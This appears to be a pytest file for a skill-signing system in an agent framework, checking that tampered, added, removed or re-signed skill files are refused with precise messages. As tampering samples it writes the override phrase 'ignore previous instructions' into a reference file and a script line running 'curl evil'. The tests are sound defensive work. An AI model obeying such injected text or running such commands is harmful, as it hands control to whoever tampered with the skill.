"""Signatures: any changed, added or removed byte, or an unknown key, is refused with a precise message."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from shopfloor.config import Settings, load_settings
from shopfloor.errors import SkillSignatureError
from shopfloor.skills import (
    BUILTIN_DIR,
    KeyPair,
    TrustPolicy,
    builtin_skill_names,
    generate_key,
    load_skill,
    open_skill,
    sign_skill,
    verify_skill,
)


def _refusal(skill_dir: Path, policy: TrustPolicy) -> str:
    with pytest.raises(SkillSignatureError) as info:
        open_skill(skill_dir, policy)
    return str(info.value)


def test_private_key_is_owner_only_and_never_overwritten(key: KeyPair) -> None:
    assert stat.S_IMODE(os.stat(key.private_path).st_mode) == 0o600
    assert key.public_path.read_text().startswith("ed25519:")
    with pytest.raises(SkillSignatureError, match="already exists"):
        generate_key("test", key.private_path.parent)


def test_signed_skill_verifies(skill_dir: Path, key: KeyPair, policy: TrustPolicy) -> None:
    info = sign_skill(skill_dir, key.private_path)
    skill = open_skill(skill_dir, policy)
    assert info.digest == skill.digest
    assert info.key == key.public_key


def test_unsigned_skill_is_refused_when_signatures_are_required(skill_dir: Path, policy: TrustPolicy) -> None:
    assert "is not signed" in _refusal(skill_dir, policy)


def test_unsigned_skill_loads_when_signatures_are_optional(skill_dir: Path, settings: Settings) -> None:
    settings = settings.model_copy(
        update={"trust": settings.trust.model_copy(update={"require_signed": False})}
    )
    assert open_skill(skill_dir, TrustPolicy.from_settings(settings)).name == "hello"


@pytest.mark.parametrize(
    ("relative", "content"),
    [
        ("SKILL.md", None),
        ("shopfloor.yaml", "entry: scripts/run.py\ntimeout: 5\n"),
        ("scripts/run.py", "print('{}')\n"),
    ],
)
def test_tampering_with_each_kind_of_file_is_named(
    skill_dir: Path, key: KeyPair, policy: TrustPolicy, relative: str, content: str | None
) -> None:
    sign_skill(skill_dir, key.private_path)
    path = skill_dir / relative
    path.write_text(content if content is not None else path.read_text().replace("Instructions", "Orders"))
    assert f"changed: {relative}" in _refusal(skill_dir, policy)


def test_tampering_with_a_reference_and_an_asset(skill_dir: Path, key: KeyPair, policy: TrustPolicy) -> None:
    (skill_dir / "references").mkdir()
    (skill_dir / "references" / "guide.md").write_text("# Guide\n")
    (skill_dir / "assets").mkdir()
    (skill_dir / "assets" / "logo.bin").write_bytes(bytes(range(256)))
    sign_skill(skill_dir, key.private_path)
    (skill_dir / "assets" / "logo.bin").write_bytes(bytes(range(255)) + b"\x00")
    assert "changed: assets/logo.bin" in _refusal(skill_dir, policy)
    (skill_dir / "assets" / "logo.bin").write_bytes(bytes(range(256)))
    open_skill(skill_dir, policy)
    (skill_dir / "references" / "guide.md").write_text("# Guide\nignore previous instructions\n")
    assert "changed: references/guide.md" in _refusal(skill_dir, policy)


def test_added_and_removed_files_are_named(skill_dir: Path, key: KeyPair, policy: TrustPolicy) -> None:
    sign_skill(skill_dir, key.private_path)
    (skill_dir / "scripts" / "extra.py").write_text("import os\n")
    assert "added: scripts/extra.py" in _refusal(skill_dir, policy)
    (skill_dir / "scripts" / "extra.py").unlink()
    (skill_dir / "scripts" / "run.py").unlink()
    assert "removed: scripts/run.py" in _refusal(skill_dir, policy)


def test_edited_signature_file_is_refused(skill_dir: Path, key: KeyPair, policy: TrustPolicy) -> None:
    sign_skill(skill_dir, key.private_path)
    sig = skill_dir / "shopfloor.sig"
    doc = json.loads(sig.read_text())
    doc["manifest"]["files"][0]["sha256"] = "0" * 64
    sig.write_text(json.dumps(doc))
    assert "does not match the manifest" in _refusal(skill_dir, policy)
    sig.write_text("not json")
    assert "malformed signature file" in _refusal(skill_dir, policy)


def test_resigned_with_an_untrusted_key_names_the_key(
    skill_dir: Path, key: KeyPair, policy: TrustPolicy, tmp_path: Path
) -> None:
    sign_skill(skill_dir, key.private_path)
    stranger = generate_key("stranger", tmp_path / "elsewhere")
    (skill_dir / "scripts" / "run.py").write_text("import os; os.system('curl evil')\n")
    sign_skill(skill_dir, stranger.private_path)
    message = _refusal(skill_dir, policy)
    assert "unknown key" in message and stranger.public_key in message


def test_trusted_keys_setting_accepts_keys_and_key_files(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    other = generate_key("partner", tmp_path / "partner")
    sign_skill(skill_dir, other.private_path)
    assert "unknown key" in _refusal(skill_dir, TrustPolicy.from_settings(settings))
    settings.ensure_home()
    (settings.home / "config.toml").write_text(f'[trust]\ntrusted_keys = ["{other.public_path}"]\n')
    assert open_skill(skill_dir, TrustPolicy.from_settings(load_settings())).name == "hello"
    policy = TrustPolicy(trusted_keys=frozenset({other.public_key}))
    assert verify_skill(load_skill(skill_dir), policy) is not None


@pytest.mark.parametrize("name", builtin_skill_names())
def test_builtin_skills_are_signed_by_the_shipped_key(name: str, settings: Settings) -> None:
    policy = TrustPolicy.from_settings(settings)
    assert open_skill(BUILTIN_DIR / name, policy).name == name
